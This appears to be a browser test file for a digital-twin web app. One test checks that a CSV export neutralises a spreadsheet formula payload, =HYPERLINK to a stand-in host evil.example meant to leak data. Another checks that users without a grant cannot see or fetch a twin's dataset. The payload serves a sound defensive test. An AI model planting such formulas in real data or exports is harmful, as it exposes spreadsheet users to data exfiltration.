"""What a person downloads and sees of data they did not write, in a real browser (Debian's chromium through
Playwright): a state value written as a spreadsheet formula arrives in the compare-revisions CSV as text, and
the map offers a twin's collection (its gauge readings, kept as a dataset of the twin) to the twin's readers
only."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from browser import Portal, Site
from helpers import LiveEngine, make_app

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]

LEAK = '=HYPERLINK("http://evil.example/?leak","Click me")'


def test_a_formula_written_as_state_downloads_as_text(live: LiveEngine, chromium_browser: Any,
                                                      tmp_path: Path) -> None:
    """Anyone who may operate a twin writes its state; the owner compares two revisions and downloads the
    changes as CSV: the formula is a cell of text (a leading '), the negative level a number."""
    tokens = {name: live.twin("token", "create", "--name", name, "--role", role).strip().splitlines()[-1]
              for name, role in (("dev", "developer"), ("uma", "user"), ("opal", "user"))}
    app = make_app(tmp_path, name="notes-app", manifest={"state": {"note": {"type": "string"},
                                                                   "level": {"type": "number", "unit": "m"}}})
    with live.client(tokens["dev"]) as dev:
        dev.publish_app(app)
    with live.client(tokens["uma"]) as uma:
        uma.create_twin("notes-app", "csv-reach", {"station": "RR-01"})
        uma.grant("csv-reach", "opal", "operate")
        uma.write_state("csv-reach", reported={"note": "calm", "level": 1.25})
    with live.client(tokens["opal"]) as opal:  # who may operate the twin, not its owner
        opal.write_state("csv-reach", reported={"note": LEAK, "level": -1.5})
    site = Site(url=live.url, data_dir=live.settings.data_dir, tokens=tokens, facts={}, shots=tmp_path)
    tab = Portal(chromium_browser, site, "csv-uma")
    try:
        tab.sign_in(tokens["uma"])
        page = tab.goto("/ui/twins/csv-reach")
        page.click("text=Compare revisions")
        page.wait_for_selector("caption:has-text('Changes from revision')")
        with page.expect_download() as info:
            page.click("button[aria-label^='Download CSV: Changes from revision']")
        rows = list(csv.reader(io.StringIO(Path(info.value.path()).read_text())))
    finally:
        tab.close()
    assert rows[0] == ["property", "kind", "change", "before", "after"]
    by_property = {row[0]: row for row in rows[1:]}
    assert by_property["note"][3:] == ["calm", "'" + LEAK], rows  # text, never a formula
    assert by_property["level"][3:] == ["1.25", "-1.5"], rows  # a negative number stays a number


def test_the_map_offers_a_twins_collection_to_its_readers_only(portal: Any, site: Site) -> None:
    """The demo keeps the gauge readings of uma's twin as a dataset of the twin: uma's map offers the
    collection; eve, who holds no grant on the twin, finds no trace of it, even when she asks for it by name."""
    gauges = site.facts["edr"]["stations"]["collection"]
    offered = "(page) => [...page.querySelectorAll('.map-tools select:first-of-type option')].map((o) => o.value)"
    uma = portal("uma")
    page = uma.goto("/ui/map")
    page.wait_for_selector(".leaflet-tooltip.twin-label")
    assert gauges in page.locator(".map-tools").evaluate(offered)
    eve = portal("eve")
    page = eve.goto(f"/ui/map?collection={gauges}")
    page.wait_for_selector(".map-tools select")
    assert gauges not in page.locator(".map-tools").evaluate(offered)
    assert gauges not in eve.text() and page.get_attribute(".map", "data-locations") != f"{gauges}:1"
    status = page.evaluate("(id) => fetch(`/edr/collections/${id}/locations/RR-01`).then((r) => r.status)", gauges)
    assert status == 404
    eve.check("map-without-grant")
